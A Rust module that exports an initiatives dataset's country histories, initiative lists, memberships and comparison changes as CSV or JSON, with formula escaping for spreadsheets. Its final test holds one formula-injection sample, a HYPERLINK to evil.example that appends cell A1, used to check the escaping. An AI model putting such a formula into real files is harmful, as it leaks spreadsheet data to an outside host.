//! Tables without a window: a country's history and the initiative list, as CSV or JSON.
//!
//! The command line and the app share these, so an export reads the same wherever it was made.
//! Dates and vocabulary words are written as the data file writes them (`1992-12`, `co_lead`),
//! so other tools can read the output back without guessing.

use crate::data::{Category, Dataset, FuzzyDate, Initiative, Kind, Period, Role, Status, World};
use crate::export::{ExportError, Format};
use crate::scene::compare::Change;

/// The columns of a history export, in order.
pub const HISTORY_COLUMNS: [&str; 9] = [
    "initiative_id",
    "initiative",
    "role",
    "joined",
    "left",
    "start",
    "end",
    "status",
    "outcome",
];

/// The columns of an initiative-list export, in order.
pub const LIST_COLUMNS: [&str; 11] = [
    "id",
    "name",
    "kind",
    "category",
    "status",
    "start",
    "end",
    "lead_states",
    "participant_count",
    "outcome",
    "summary",
];

/// One row of a country's history: one period in which the country held one role in one
/// effort. A state that left and rejoined has a row per period.
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct HistoryRow<'a> {
    pub initiative_id: &'a str,
    pub initiative: &'a str,
    pub role: Role,
    /// When it took the role, if later than the effort's start.
    pub joined: Option<FuzzyDate>,
    /// When it gave the role up, if it did.
    pub left: Option<FuzzyDate>,
    pub start: FuzzyDate,
    pub end: Option<FuzzyDate>,
    pub status: Status,
    pub outcome: &'a str,
}

impl<'a> HistoryRow<'a> {
    /// The row for `initiative`, in which the country held `role` for `period`.
    pub fn new(initiative: &'a Initiative, role: Role, period: Period) -> Self {
        Self {
            initiative_id: &initiative.id,
            initiative: &initiative.name,
            role,
            joined: period.joined,
            left: period.left,
            start: initiative.start,
            end: initiative.end,
            status: initiative.status,
            outcome: &initiative.outcome,
        }
    }

    fn csv_fields(&self) -> Vec<String> {
        vec![
            self.initiative_id.to_owned(),
            self.initiative.to_owned(),
            self.role.id().to_owned(),
            iso_or_empty(self.joined),
            iso_or_empty(self.left),
            self.start.to_iso_string(),
            iso_or_empty(self.end),
            self.status.id().to_owned(),
            self.outcome.to_owned(),
        ]
    }
}

/// Every period of every role the country held, in the order of [`Dataset::history_of`].
pub fn history_rows<'a>(dataset: &'a Dataset, code: &str) -> Vec<HistoryRow<'a>> {
    dataset
        .history_of(code)
        .into_iter()
        .flat_map(|e| {
            let initiative = &dataset.initiatives[e.initiative];
            e.periods
                .into_iter()
                .map(move |period| HistoryRow::new(initiative, e.role, period))
        })
        .collect()
}

/// A country's history as CSV or JSON text, ending in a line break.
pub fn history(dataset: &Dataset, code: &str, format: Format) -> Result<String, ExportError> {
    let rows = history_rows(dataset, code);
    match format {
        Format::Csv => Ok(csv(
            &HISTORY_COLUMNS,
            rows.iter().map(HistoryRow::csv_fields),
        )),
        Format::Json => json(&rows),
    }
}

/// One row of the initiative list: one effort.
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct ListRow<'a> {
    pub id: &'a str,
    pub name: &'a str,
    pub kind: Kind,
    pub category: Category,
    pub status: Status,
    pub start: FuzzyDate,
    pub end: Option<FuzzyDate>,
    /// The states that lead it, co-lead it or are proposed to lead it, in file order.
    pub lead_states: Vec<&'a str>,
    /// How many states take part as participants. A state both lead and participant counts
    /// as a lead only, and supporters are not counted, as in [`Initiative::lens`].
    pub participant_count: usize,
    pub outcome: &'a str,
    /// Last, so the list reads the same as before up to the outcome; `import` reads it back.
    pub summary: &'a str,
}

impl<'a> ListRow<'a> {
    /// The row for one initiative.
    pub fn new(initiative: &'a Initiative) -> Self {
        let states = initiative.states(None);
        Self {
            id: &initiative.id,
            name: &initiative.name,
            kind: initiative.kind,
            category: initiative.category,
            status: initiative.status,
            start: initiative.start,
            end: initiative.end,
            lead_states: states
                .iter()
                .filter(|(_, role)| role.is_leading())
                .map(|(code, _)| *code)
                .collect(),
            participant_count: states
                .iter()
                .filter(|(_, role)| *role == Role::Participant)
                .count(),
            outcome: &initiative.outcome,
            summary: &initiative.summary,
        }
    }

    fn csv_fields(&self) -> Vec<String> {
        vec![
            self.id.to_owned(),
            self.name.to_owned(),
            self.kind.id().to_owned(),
            self.category.id().to_owned(),
            self.status.id().to_owned(),
            self.start.to_iso_string(),
            iso_or_empty(self.end),
            // Semicolons, not commas, so the list stays one unquoted field.
            self.lead_states.join(";"),
            self.participant_count.to_string(),
            self.outcome.to_owned(),
            self.summary.to_owned(),
        ]
    }
}

/// The initiative list as CSV or JSON text, one row per initiative in file order.
pub fn initiative_list(dataset: &Dataset, format: Format) -> Result<String, ExportError> {
    let rows: Vec<ListRow<'_>> = dataset.initiatives.iter().map(ListRow::new).collect();
    match format {
        Format::Csv => Ok(csv(&LIST_COLUMNS, rows.iter().map(ListRow::csv_fields))),
        Format::Json => json(&rows),
    }
}

/// The columns of a membership export: the table `import` reads back.
pub const MEMBER_COLUMNS: [&str; 8] = [
    "initiative",
    "country",
    "iso3",
    "role",
    "joined",
    "left",
    "source",
    "note",
];

/// Every state's role in every initiative, one row per role and period, as a spreadsheet of
/// memberships: with the initiative list, what `import` needs to make the initiatives again.
/// A role with several sources gives its first; organisations, which are not on the map, are
/// not listed.
pub fn members(
    dataset: &Dataset,
    world: &crate::data::World,
    format: Format,
) -> Result<String, ExportError> {
    let rows: Vec<[String; 8]> = dataset
        .initiatives
        .iter()
        .flat_map(|initiative| {
            initiative.actors.iter().filter_map(move |actor| {
                let code = actor.actor.state_code()?;
                let country = world
                    .by_code(code)
                    .map_or_else(|| code.to_owned(), |c| c.name.clone());
                let source = actor
                    .sources
                    .first()
                    .and_then(|&s| initiative.sources.get(s))
                    .map_or_else(String::new, |s| s.url.clone());
                Some([
                    initiative.id.clone(),
                    country,
                    code.to_owned(),
                    actor.role.id().to_owned(),
                    actor.joined.map_or_else(String::new, |d| d.to_iso_string()),
                    actor.left.map_or_else(String::new, |d| d.to_iso_string()),
                    source,
                    actor.note.clone().unwrap_or_default(),
                ])
            })
        })
        .collect();
    match format {
        Format::Csv => Ok(csv(&MEMBER_COLUMNS, rows.into_iter().map(Vec::from))),
        Format::Json => json(
            &rows
                .iter()
                .map(|row| {
                    MEMBER_COLUMNS
                        .iter()
                        .zip(row)
                        .map(|(k, v)| ((*k).to_owned(), v.clone()))
                        .collect::<std::collections::BTreeMap<_, _>>()
                })
                .collect::<Vec<_>>(),
        ),
    }
}

/// The columns of a comparison export, in order.
pub const CHANGE_COLUMNS: [&str; 10] = [
    "initiative_id",
    "state",
    "country",
    "change",
    "role_before",
    "role_after",
    "date",
    "uncertain",
    "sources",
    "note",
];

/// One row of a comparison: one state's change between the two dates.
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct ChangeRow<'a> {
    pub initiative_id: &'a str,
    pub state: &'a str,
    /// The country's name on the world map.
    pub country: &'a str,
    /// `joined`, `left`, `stayed` or `role_changed`.
    pub change: &'static str,
    pub role_before: Option<Role>,
    pub role_after: Option<Role>,
    /// When it joined, left or took the new role.
    pub date: Option<FuzzyDate>,
    /// Whether the date is too coarse to tell that it fell between the two dates.
    pub uncertain: bool,
    /// The addresses of the sources that say so.
    pub sources: Vec<&'a str>,
    /// The data's own note on the entry, if any.
    pub note: Option<&'a str>,
}

impl<'a> ChangeRow<'a> {
    /// The row of one change in `initiative`; `world` names the country.
    pub fn new(initiative: &'a Initiative, world: &'a World, change: &Change<'a>) -> Self {
        Self {
            initiative_id: &initiative.id,
            state: change.code,
            country: world
                .by_code(change.code)
                .map_or(change.code, |c| c.name.as_str()),
            change: change.kind.id(),
            role_before: change.before,
            role_after: change.after,
            date: change.date,
            uncertain: change.uncertain,
            sources: change
                .sources
                .iter()
                .filter_map(|&i| initiative.sources.get(i))
                .map(|s| s.url.as_str())
                .collect(),
            note: change.note,
        }
    }

    fn csv_fields(&self) -> Vec<String> {
        let role = |r: Option<Role>| r.map(|r| r.id().to_owned()).unwrap_or_default();
        vec![
            self.initiative_id.to_owned(),
            self.state.to_owned(),
            self.country.to_owned(),
            self.change.to_owned(),
            role(self.role_before),
            role(self.role_after),
            iso_or_empty(self.date),
            self.uncertain.to_string(),
            // Semicolons, not commas, so the list stays one unquoted field.
            self.sources.join(";"),
            self.note.unwrap_or_default().to_owned(),
        ]
    }
}

/// The rows of a comparison, in the order of [`compare::changes`](crate::scene::compare::changes).
pub fn change_rows<'a>(
    initiative: &'a Initiative,
    world: &'a World,
    changes: &[Change<'a>],
) -> Vec<ChangeRow<'a>> {
    changes
        .iter()
        .map(|c| ChangeRow::new(initiative, world, c))
        .collect()
}

/// What changed in `initiative` between days `a` and `b`, as CSV or JSON text.
pub fn changes(
    initiative: &Initiative,
    world: &World,
    a: i64,
    b: i64,
    format: Format,
) -> Result<String, ExportError> {
    let changes = crate::scene::compare::changes(initiative, a, b);
    let rows = change_rows(initiative, world, &changes);
    match format {
        Format::Csv => Ok(csv(&CHANGE_COLUMNS, rows.iter().map(ChangeRow::csv_fields))),
        Format::Json => json(&rows),
    }
}

fn iso_or_empty(date: Option<FuzzyDate>) -> String {
    date.map(|d| d.to_iso_string()).unwrap_or_default()
}

fn csv(header: &[&str], rows: impl Iterator<Item = Vec<String>>) -> String {
    let mut text = header.join(",");
    text.push('\n');
    for row in rows {
        let fields: Vec<String> = row.iter().map(|f| csv_field(f)).collect();
        text.push_str(&fields.join(","));
        text.push('\n');
    }
    text
}

fn json(rows: &impl serde::Serialize) -> Result<String, ExportError> {
    let mut text = serde_json::to_string_pretty(rows)?;
    text.push('\n');
    Ok(text)
}

/// A CSV field, quoted when it holds a comma, a quote or a line break (RFC 4180), with quotes
/// doubled inside; a field a spreadsheet would run as a formula starts with an apostrophe
/// (`data::cell::escape_formula`).
pub fn csv_field(field: &str) -> String {
    let field = crate::data::cell::escape_formula(field);
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_with_commas_or_quotes_are_quoted() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn a_field_that_would_be_a_formula_is_written_as_text() {
        assert_eq!(csv_field("=1+1"), "'=1+1");
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
    }
}
